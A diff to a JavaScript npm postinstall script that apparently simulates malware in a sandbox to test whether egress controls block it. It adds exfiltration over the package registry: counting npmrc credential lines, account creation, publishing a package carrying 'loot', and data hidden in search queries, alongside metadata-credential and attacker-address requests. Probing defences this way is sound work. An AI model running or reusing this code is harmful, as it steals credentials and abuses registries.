@@ -25,7 +25,11 @@ const ATTACKER = '10.231.253.2';
 const PUBLIC_RESOLVER = '198.51.100.53';
 const ATTACKER_V6 = 'fd00:bad::2';
 const METADATA = '169.254.169.254';
+// The internal registry, as the project's lockfile names it, and the
+// address that name had when the lockfile was made.
 const REGISTRY_HOST = 'registry.cleanroom.test';
+const REGISTRY_IP = '10.231.254.2';
+const REGISTRY_PORT = 4873;
 const TIMEOUT_MS = 1500;
 
 function log(msg) {
@@ -301,8 +305,10 @@ async function exfiltrate(data) {
     httpAttempt(`HTTP GET http://${METADATA}/latest/meta-data/iam/security-credentials/`,
       { host: METADATA, port: 80, path: '/latest/meta-data/iam/security-credentials/', method: 'GET' }),
     tcpAttempt(`TCP [${ATTACKER_V6}]:443`, ATTACKER_V6, 443, data),
-    httpAttempt(`HTTP POST http://${REGISTRY_HOST}:22/`,
-      { host: REGISTRY_HOST, port: 22, path: '/', method: 'POST' }, data),
+    httpAttempt(`HTTP POST http://${REGISTRY_HOST}:${REGISTRY_PORT}/ (the registry by name)`,
+      { host: REGISTRY_HOST, port: REGISTRY_PORT, path: '/', method: 'POST' }, data),
+    httpAttempt(`HTTP POST http://${REGISTRY_IP}:${REGISTRY_PORT}/ (the registry by address)`,
+      { host: REGISTRY_IP, port: REGISTRY_PORT, path: '/', method: 'POST' }, data),
   ];
   const ping = findInPath('ping');
   if (ping) {
@@ -314,6 +320,70 @@ async function exfiltrate(data) {
     log(`ICMP ping ${ATTACKER}: skipped (no ping binary)`);
   }
   await Promise.all(attempts);
+}
+
+// 6. The registry channel: the internal registry is reachable by design, so
+// malware tries it as a write channel and an oracle: create an account
+// (adduser answers with a fresh token on many registries), publish itself
+// (how the 2025 npm worms spread), search, and fetch what this project's
+// lockfile does not hold. The registry is the one npm uses: the environment
+// (npm_config_registry) or the npmrc.
+function registryURL() {
+  let url = process.env.npm_config_registry || process.env.NPM_CONFIG_REGISTRY || '';
+  const rc = process.env.npm_config_userconfig || process.env.NPM_CONFIG_USERCONFIG;
+  if (rc) {
+    try {
+      const text = fs.readFileSync(rc, 'utf8');
+      const creds = text.split('\n').filter((l) => /_authToken|_auth\b|_password/.test(l)).length;
+      log(`registry: ${rc} names ${(text.match(/^registry\s*=\s*(\S+)/m) || [])[1] || 'no registry'}, ${creds} credential line(s)`);
+      if (!url) url = (text.match(/^registry\s*=\s*(\S+)/m) || [])[1] || '';
+    } catch (e) {
+      log(`registry: read ${rc}: ${e.code || e.message}`);
+    }
+  }
+  return url;
+}
+
+function registryAttempt(name, base, method, p, body) {
+  return withTimeout(`registry ${name}: ${method} ${p}`, (finish) => {
+    const u = new URL(p.replace(/^\//, ''), base.endsWith('/') ? base : base + '/');
+    const req = http.request(u, { method, timeout: TIMEOUT_MS, headers: { 'content-type': 'application/json' } }, (res) => {
+      let b = '';
+      res.setEncoding('utf8');
+      res.on('data', (d) => { if (b.length < 400) b += d; });
+      res.on('end', () => {
+        const rule = (b.match(/\(rule ([a-z0-9-]+)\)/) || [])[1];
+        finish(res.statusCode < 300 ? `SENT — got HTTP ${res.statusCode}` :
+          `refused: HTTP ${res.statusCode}` + (rule ? ` (rule ${rule})` : ` ${b.slice(0, 80).replace(/\s+/g, ' ')}`));
+      });
+    });
+    req.on('error', (e) => finish(`failed: ${e.code || e.message}`));
+    req.on('timeout', () => req.destroy(new Error('ETIMEDOUT')));
+    if (body) req.write(body);
+    req.end();
+  });
+}
+
+async function abuseRegistry(data) {
+  const base = registryURL();
+  if (!/^http:\/\//.test(base)) {
+    log(`registry: no plain-HTTP registry found (${base || 'none'}), channel skipped`);
+    return;
+  }
+  log(`registry: trying ${base} as a channel`);
+  const user = 'telemetry-' + Date.now().toString(36);
+  const self = JSON.stringify({
+    name: '@cleanroom-demo/telemetry-helper', 'dist-tags': { latest: '1.0.1' },
+    versions: { '1.0.1': { name: '@cleanroom-demo/telemetry-helper', version: '1.0.1', loot: data.slice(0, 512) } },
+  });
+  await Promise.all([
+    registryAttempt('adduser', base, 'PUT', `/-/user/org.couchdb.user:${user}`,
+      JSON.stringify({ _id: `org.couchdb.user:${user}`, name: user, password: data.slice(0, 64), type: 'user' })),
+    registryAttempt('search', base, 'GET', `/-/v1/search?text=${Buffer.from(data).toString('hex').slice(0, 62)}`),
+    registryAttempt('publish', base, 'PUT', '/@cleanroom-demo%2ftelemetry-helper', self),
+    registryAttempt('tarball not in the lockfile', base, 'GET', '/typescript/-/typescript-5.6.3.tgz'),
+    registryAttempt('packument of another name', base, 'GET', '/typescript'),
+  ]);
 }
 
 async function main() {
@@ -335,6 +405,11 @@ async function main() {
     await exfiltrate(data);
   } catch (e) {
     log(`exfiltrate: swallowed error: ${e.message}`);
+  }
+  try {
+    await abuseRegistry(data);
+  } catch (e) {
+    log(`registry: swallowed error: ${e.message}`);
   }
   log('postinstall done');
 }
